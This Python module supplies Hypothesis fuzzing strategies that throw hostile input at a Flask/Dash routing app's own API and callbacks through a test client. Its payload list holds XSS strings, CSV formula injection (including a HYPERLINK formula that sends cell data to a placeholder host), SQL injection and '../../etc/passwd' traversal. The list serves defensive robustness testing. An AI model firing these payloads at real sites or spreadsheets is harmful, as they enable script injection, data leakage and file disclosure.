"""Hypothesis strategies for hostile input: everything a user or a client can type or send.

Shared by the in-suite property tests (``tests/fuzz/test_*.py``, a few hundred examples each so
the suite stays fast) and the long run ``python -m tests.fuzz.fuzz_api`` (>= 10,000 requests,
whose figures are recorded in ``docs/reliability.md``).

A request is a plain dict ``{"method", "path", "query", "headers", "body"}`` built here and sent
with Flask's test client by :func:`send`, so the same case can be replayed from a failure report.
"""

from __future__ import annotations

import base64
import json
from typing import Any
from urllib.parse import quote

from hypothesis import strategies as st

POP_IDS = ("HKG", "SIN", "BOM", "BKK", "MNL", "SGN", "ICN", "NRT", "KUL", "CGK", "SJC", "IAD",
           "ORD", "GRU", "LHR", "FRA", "MAD", "CDG", "SYD")
ORIGIN_IDS = ("cn-hongkong", "ap-southeast-1", "us-west-1", "us-east-1", "eu-central-1")

#: Text a hostile or careless user types: markup, formula injection, encodings, control bytes.
PAYLOADS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1",
    "\r=1", "'; DROP TABLE clients; --", "../../etc/passwd", "%00", "\x00", "\ufeff", "\u202e",
    "𝟘", "٣", "１２", "nan", "NaN", "inf", "-Infinity", "1e309", "-1e309", "0x1A", "1_000",
    "١٢٫٥", "  ", "", "null", "true", "[]", "{}", "%ff", "%", "%%", "&", "=", "?", "#", ";", ",",
    "São Paulo", "東京", "Zürich", "a" * 300,
)

_numbers_text = st.one_of(
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.floats(-200, 200).map(lambda v: f"{v:.6f}"),
    st.integers(-10**30, 10**30).map(str),
    st.sampled_from(["90", "-90", "180", "-180", "90.0000001", "-180.0001", "1e3", ".5", "5.",
                     "+1", "--1", "1e", "e1", " 1 ", "1,5", "1.2.3", "0x10", "١", "1e-400"]),
)
hostile_text = st.one_of(
    st.sampled_from(PAYLOADS), _numbers_text,
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=20),
)

_json_scalars = st.one_of(
    st.none(), st.booleans(), st.integers(-10**20, 10**20), st.integers(),
    st.floats(allow_nan=False, allow_infinity=False), hostile_text,
)
json_values = st.recursive(
    _json_scalars,
    lambda children: st.one_of(st.lists(children, max_size=4),
                               st.dictionaries(hostile_text, children, max_size=4)),
    max_leaves=12,
)


def _client_obj() -> st.SearchStrategy[Any]:
    good = st.fixed_dictionaries(
        {"lat": st.floats(-90, 90), "lon": st.floats(-180, 180)},
        optional={"name": hostile_text, "weight": st.floats(0, 1e6)})
    bad = st.dictionaries(st.sampled_from(["lat", "lon", "name", "weight", "x", ""]), json_values,
                          max_size=5)
    return st.one_of(good, bad, json_values)


json_bodies = st.one_of(
    st.fixed_dictionaries({"clients": st.lists(_client_obj(), max_size=6)},
                          optional={"origin": st.one_of(st.sampled_from(ORIGIN_IDS), json_values),
                                    "down": st.one_of(st.lists(st.sampled_from(POP_IDS), max_size=4),
                                                      json_values)}),
    st.dictionaries(hostile_text, json_values, max_size=4),
    json_values,
).map(lambda doc: json.dumps(doc).encode())

_csv_cells = st.one_of(_numbers_text, hostile_text, st.sampled_from(["lat", "lon", "name",
                                                                     "weight", "latitude"]))
csv_text = st.lists(st.lists(_csv_cells, min_size=1, max_size=5).map(",".join),
                    max_size=8).map("\n".join)

#: Bodies in every encoding a spreadsheet might save, plus binary junk.
csv_bodies = st.one_of(
    csv_text.map(lambda t: t.encode("utf-8", "surrogatepass")),
    csv_text.map(lambda t: t.encode("utf-16")),
    csv_text.map(lambda t: t.encode("latin-1", "replace")),
    st.binary(max_size=300),
    st.sampled_from([b"lat,lon\n48.8,2.3\n", b"\xef\xbb\xbflat,lon\n1,2\n", b"\xff\xfe\x00\x00",
                     b"48.8,2.3,\xe9t\xe9\n", b"PK\x03\x04\x14\x00", b"%PDF-1.7\n"]),
)

#: Mostly valid client files (so the fuzz also reaches routing and the answer), with hostile
#: names: formula injection, markup, quotes.
good_csv_bodies = st.lists(
    st.builds(lambda la, lo, n, w: f"{la:.4f},{lo:.4f},{n},{w:g}", st.floats(-90, 90),
              st.floats(-180, 180),
              st.sampled_from(PAYLOADS).map(lambda t: '"' + t.replace('"', '""') + '"'),
              st.floats(0, 100)),
    min_size=1, max_size=20).map(lambda rows: ("lat,lon,name,weight\n" + "\n".join(rows))
                                 .encode("utf-8", "replace"))

#: Query-string shaped text (URL state of the page: ``?clients=...&origin=...&down=...``).
_query_atoms = st.one_of(
    st.sampled_from(["clients=", "origin=", "down=", "endpoint=", "&", "=", ";", ",", "%2C",
                     "%3B", "%", "%zz", "%ff", "+", "?", "#", "CDG", "eu-central-1", "48.8566",
                     "2.3522", "-91", "181", "nan", "inf", "1e999", "CLB", "ENI"]),
    hostile_text.map(lambda t: quote(t, safe="")),
    hostile_text,
)
url_queries = st.one_of(
    st.lists(_query_atoms, max_size=16).map("".join),
    st.builds(lambda cs, o, d: f"?clients={cs}&origin={o}&down={d}",
              st.lists(st.builds(lambda a, b, n: f"{a},{b},{quote(n, safe='')}", _numbers_text,
                                 _numbers_text, hostile_text), max_size=5).map(";".join),
              st.one_of(st.sampled_from(ORIGIN_IDS), hostile_text.map(quote)),
              st.lists(st.one_of(st.sampled_from(POP_IDS), hostile_text.map(quote)),
                       max_size=4).map(",".join)),
)


def _query(params: list[tuple[str, str]]) -> str:
    return "&".join(f"{quote(k, safe='')}={quote(v, safe='', encoding='utf-8', errors='surrogatepass')}"
                    for k, v in params)


_api_param = st.tuples(st.one_of(st.sampled_from(["lat", "lon", "down", "origin", "k"]),
                                 hostile_text), hostile_text)
nearest_requests = st.builds(
    lambda params, raw: {"method": "GET", "path": "/api/v1/nearest",
                         "query": _query(params) + raw, "headers": {}, "body": b""},
    st.one_of(
        st.builds(lambda la, lo, extra: [("lat", la), ("lon", lo)] + extra, _numbers_text,
                  _numbers_text, st.lists(_api_param, max_size=3)),
        st.lists(_api_param, max_size=6)),
    st.sampled_from(["", "", "", "&lat=%ff", "&%zz=1", "&down=%00", "&k=", "&&&", "&lat"]),
)
assign_requests = st.builds(
    lambda ctype, body, params: {"method": "POST", "path": "/api/v1/assign",
                                 "query": _query(params),
                                 "headers": ({"Content-Type": ctype} if ctype else {}),
                                 "body": body},
    st.sampled_from(["application/json"] * 4 + ["text/csv"] * 4 + ["text/csv; charset=utf-16",
                     "application/json; charset=latin-1", "text/plain",
                     "multipart/form-data; boundary=x", "application/x-www-form-urlencoded",
                     "", "application/jsonx", "*/*"]),
    st.one_of(json_bodies, csv_bodies, good_csv_bodies),
    st.lists(st.tuples(st.sampled_from(["origin", "down", "x"]),
                       st.one_of(st.sampled_from(ORIGIN_IDS + POP_IDS), hostile_text)),
             max_size=2),
)
path_requests = st.builds(
    lambda method, prefix, seg: {"method": method, "path": prefix + quote(seg, safe="/%"),
                                 "query": "", "headers": {}, "body": b""},
    st.sampled_from(["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"]),
    st.sampled_from(["/api/v1/pops/", "/api/v1/origins/", "/api/v1/", "/api/", "/api/v2/",
                     "/assets/", "/_dash-component-suites/", "/healthz/", "/", "/_dash-layout/"]),
    hostile_text,
)


def callback_value(component: str, prop: str) -> st.SearchStrategy[Any]:
    """Values for one callback input: realistic-but-hostile for the props we know, plus any
    JSON (a hand-crafted request can send anything)."""
    upload = st.one_of(
        csv_bodies.map(lambda b: "data:text/csv;base64," + base64.b64encode(b).decode()),
        st.sampled_from(["data:text/csv;base64,!!!", "data:,", "no comma", "data:text/csv;base64,"
                         + "A" * 4001]))
    scenario_dict = st.fixed_dictionaries(
        {"clients": st.lists(_client_obj(), max_size=4)},
        optional={"origin": json_values, "down": json_values, "endpoint_type": json_values})
    known: dict[tuple[str, str], st.SearchStrategy[Any]] = {
        ("url", "search"): url_queries,
        ("url", "href"): url_queries.map(lambda q: "http://127.0.0.1/" + q),
        ("scenario-store", "data"): scenario_dict,
        ("scenario-edit", "data"): st.fixed_dictionaries(
            {"op": st.one_of(st.sampled_from(["add", "remove", "clear", "notice"]), json_values)},
            optional={"clients": st.lists(_client_obj(), max_size=4), "index": json_values,
                      "notices": json_values, "source": json_values, "nonce": json_values}),
        ("coords-input", "value"): hostile_text,
        ("city-search", "search_value"): hostile_text,
        ("city-search", "value"): st.one_of(st.integers(), hostile_text),
        ("preset-select", "value"): hostile_text,
        ("clients-upload", "contents"): upload,
        ("clients-upload", "filename"): hostile_text,
        ("clients-upload-accepted", "data"): st.one_of(
            st.fixed_dictionaries({"contents": upload, "filename": hostile_text}),
            st.dictionaries(st.sampled_from(["contents", "filename", "nonce"]), json_values)),
        ("origin-select", "value"): st.one_of(st.sampled_from(ORIGIN_IDS), hostile_text),
        ("endpoint-type", "value"): st.one_of(st.sampled_from(["CLB", "ENI"]), hostile_text),
        ("assignment-table", "active_cell"): st.one_of(
            st.fixed_dictionaries({"row": json_values, "column": json_values,
                                   "column_id": st.sampled_from(["remove", "client"]),
                                   "row_id": json_values}), json_values),
    }
    base = known.get((component, prop))
    return json_values if base is None else st.one_of(base, base, json_values)


@st.composite
def callback_requests(draw: Any, dependencies: list[dict[str, Any]]) -> dict[str, Any]:
    """A well-formed ``/_dash-update-component`` request for a random registered callback, with
    hostile values -- or, sometimes, a structurally broken one."""
    dep = draw(st.sampled_from([d for d in dependencies if not d.get("clientside_function")]))
    if draw(st.integers(0, 9)) == 0:  # structurally broken
        body = draw(st.one_of(json_values, st.fixed_dictionaries(
            {"output": st.one_of(st.just(dep["output"]), hostile_text),
             "inputs": json_values, "state": json_values, "changedPropIds": json_values})))
        return {"method": "POST", "path": "/_dash-update-component", "query": "",
                "headers": {"Content-Type": "application/json"},
                "body": json.dumps(body).encode()}

    def items(decl: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [{"id": d["id"], "property": d["property"],
                 "value": draw(callback_value(d["id"], d["property"]))} for d in decl]

    inputs = items(dep["inputs"])
    state = items(dep["state"])
    out = dep["output"]
    if out.startswith(".."):
        parts = [p for p in out.strip(".").split("...") if p]
        outputs: Any = [{"id": p.rsplit(".", 1)[0], "property": p.rsplit(".", 1)[1]}
                        for p in parts]
    else:
        cid, prop = out.rsplit(".", 1)
        outputs = {"id": cid, "property": prop}
    changed = draw(st.lists(st.sampled_from([f"{i['id']}.{i['property']}" for i in inputs]),
                            min_size=1, max_size=len(inputs), unique=True))
    body = {"output": out, "outputs": outputs, "inputs": inputs, "state": state,
            "changedPropIds": changed}
    text = json.dumps(body, allow_nan=False)
    if draw(st.integers(0, 19)) == 0:  # Python's and Flask's JSON parser accept these tokens
        text = text.replace('"value": null', '"value": ' + draw(st.sampled_from(
            ["NaN", "Infinity", "-Infinity", "1e999", "-0", "123456789012345678901234567890"])), 1)
    return {"method": "POST", "path": "/_dash-update-component", "query": "",
            "headers": {"Content-Type": "application/json"}, "body": text.encode()}


def api_requests() -> st.SearchStrategy[dict[str, Any]]:
    return st.one_of(nearest_requests, assign_requests, path_requests)


def send(client: Any, req: dict[str, Any]) -> Any:
    """Send one generated request with a Flask test client; returns the response."""
    url = req["path"] + ("?" + req["query"] if req["query"] else "")
    return client.open(url, method=req["method"], data=req["body"], headers=req["headers"])
